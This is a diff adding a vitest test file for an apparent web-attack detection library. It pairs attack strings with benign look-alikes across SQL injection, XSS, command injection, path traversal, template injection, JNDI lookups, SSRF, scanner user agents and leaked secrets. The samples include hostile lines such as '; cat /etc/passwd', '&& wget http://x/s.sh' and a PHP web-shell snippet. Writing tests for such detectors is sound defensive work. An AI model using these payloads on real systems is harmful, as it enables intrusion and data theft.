@@ -1,0 +1,80 @@
+import { describe, expect, it } from 'vitest';
+import { isPlainValue, luhnValid, SIGNATURES, testSignature } from '../../../src/core/detect/signatures.ts';
+
+const hit = (lib: string, value: string, name: string | null = null) => testSignature(SIGNATURES.get(lib)!, value, name);
+
+const CASES: Record<string, { attack: string[]; benign: string[]; name?: string }> = {
+  sqli: {
+    attack: ["' OR '1'='1", "1' or 1=1--", 'lamp%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--', "x'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1;WAITFOR DELAY '0:0:5'", 'JyBPUiAnMSc9JzE='],
+    benign: ["O'Reilly", "children's books", 'rock & roll', 'select a size', 'Drop me a line', 'union station', 'order by price'],
+  },
+  nosqli: { attack: ['{"$ne": null}', 'password[$ne]=1', '{"$where": "sleep(100)"}', "'; return true; var x='"], benign: ['price is $5', 'US$ 10'] },
+  xss: {
+    attack: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)', '%3Csvg%2Fonload%3Dalert(1)%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '<iframe src=//evil>'],
+    benign: ['a < b and c > d', 'fish & chips', 'I <3 it', 'onboarding = done'],
+  },
+  cmd: { attack: ['; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`', '&& wget http://x/s.sh', 'a;/bin/sh -c id', 'cmd.exe /c dir'], benign: ["Don't ring the bell; the baby sleeps", 'Deliver after 5pm & call first', 'tea (green)', 'ls-400 lamp'] },
+  traversal: { attack: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252fetc%252fpasswd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '/static/..;/admin', 'file.txt%00.jpg'], benign: ['a.b.c', '/api/v1/files/report.pdf', '...and more', 'version 1..2'] },
+  ssti: { attack: ['{{7*7}}', '${7*7}', "{{config.__class__.__init__.__globals__['os']}}", '<%= 7*7 %>', '{% import os %}', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources'], benign: ['{"a":1}', 'costs ${price}', '{{name}}'] },
+  jndi: { attack: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:${lower:l}dap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D'], benign: ['${HOME}', 'jndi is a java api'] },
+  code: { attack: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', '{"__proto__": {"admin": true}}', "require('child_process').exec('id')", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'], benign: ['prototype design', 'system requirements', 'evaluate this'] },
+  crlf: { attack: ['foo%0d%0aSet-Cookie:%20a=b', 'x\r\nLocation: http://evil'], benign: ['line one\nline two'] },
+  ssrf: {
+    attack: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'file:///etc/passwd', 'gopher://localhost:6379/_INFO', 'http://[::1]/', 'http://metadata.google.internal/computeMetadata/v1/', 'http%3A%2F%2F10.0.0.5%2F'],
+    benign: ['https://hooks.partner.example/notify', 'https://8.8.8.8/', 'mailto:a@b.example', 'plain text', '3'],
+  },
+  'scanner-ua': { attack: ['Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6'], benign: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0', 'curl/8.4.0', 'python-requests/2.31', 'kube-probe/1.29'] },
+  'probe-path': { attack: ['/.env', '/.git/config', '/wp-admin/', '/actuator/env', '/phpmyadmin/index.php', '/backup.zip', '/cgi-bin/test.cgi'], benign: ['/api/v1/users', '/environment', '/admin-guide.html', '/actuators'] },
+  'card-number': { attack: ['{"number":"4111 1111 1111 1111"}', 'card 5500-0000-0000-0004', '378282246310005'], benign: ['4111 1111 1111 1112', '**** **** **** 4242', '1234567890123456', 'order 20240101123456'] },
+  ssn: { attack: ['"ssn": "123-45-6789"'], benign: ['000-12-3456', '666-12-3456', 'tel 555-12-34567'] },
+  'password-hash': { attack: ['$2b$12$KIXQJ4b6Xn2Qe0z7x9vN2uGv1Xk3lJb0Zy8w6QvR1hT9sX2yV4cWe', '{"password":"hunter2"}', '$argon2id$v=19$m=65536,t=3,p=4$abc$def'], benign: ['{"password":""}', 'password policy'] },
+  secret: { attack: ['-----BEGIN RSA PRIVATE KEY-----', 'AKIAIOSFODNN7EXAMPLE', '{"client_secret":"abcdef123456"}'], benign: ['{"client_id":"abc"}', 'public key'] },
+  'stack-trace': { attack: ['at com.shop.Api.invoice(Api.java:41)', 'Traceback (most recent call last):', 'You have an error in your SQL syntax near', 'goroutine 1 [running]:'], benign: ['{"error":"not found"}', 'Internal Server Error'] },
+};
+
+describe('signature libraries', () => {
+  for (const [lib, c] of Object.entries(CASES)) {
+    it(`${lib}: attacks match, benign look-alikes do not`, () => {
+      for (const a of c.attack) expect(hit(lib, a, lib === 'ssrf' ? 'url' : null), a).not.toBeNull();
+      for (const b of c.benign) expect(hit(lib, b, lib === 'ssrf' ? 'url' : null), b).toBeNull();
+    });
+  }
+
+  it('credential-in-url needs a secret-named parameter with a real value, or a token shape', () => {
+    expect(hit('credential-in-url', 'sk_live_51HxQ2eLkdIwYz8m4Tq9aBcD', 'api_key')).not.toBeNull();
+    expect(hit('credential-in-url', 'hunter2', 'password')).not.toBeNull();
+    expect(hit('credential-in-url', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig', null)).not.toBeNull();
+    expect(hit('credential-in-url', 'abc', 'token')).toBeNull();
+    expect(hit('credential-in-url', 'null', 'api_key')).toBeNull();
+    expect(hit('credential-in-url', 'lamp', 'q')).toBeNull();
+  });
+
+  it('ssrf judges bare hosts only for URL-ish parameter names', () => {
+    expect(hit('ssrf', '10.0.0.1', 'host')).not.toBeNull();
+    expect(hit('ssrf', '10.0.0.1', 'version')).toBeNull();
+    expect(hit('ssrf', '3', 'page')).toBeNull();
+  });
+
+  it('Luhn', () => {
+    expect(luhnValid('4111111111111111')).toBe(true);
+    expect(luhnValid('4111111111111112')).toBe(false);
+  });
+
+  it('plain values skip decoding libraries, but not keyword-bearing ones', () => {
+    expect(isPlainValue('red shoes')).toBe(true);
+    expect(isPlainValue('1000')).toBe(true);
+    expect(isPlainValue('union select password from users')).toBe(false);
+    expect(isPlainValue('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg')).toBe(false);
+    expect(isPlainValue('../etc')).toBe(false);
+  });
+
+  it('survives hostile values quickly', () => {
+    const t = performance.now();
+    for (const lib of SIGNATURES.values()) {
+      testSignature(lib, `${"'".repeat(5000)}${'('.repeat(5000)}`, 'url');
+      testSignature(lib, 'a'.repeat(100_000), null);
+      testSignature(lib, '\u0000\uffff\ud800', null);
+    }
+    expect(performance.now() - t).toBeLessThan(5000);
+  });
+});
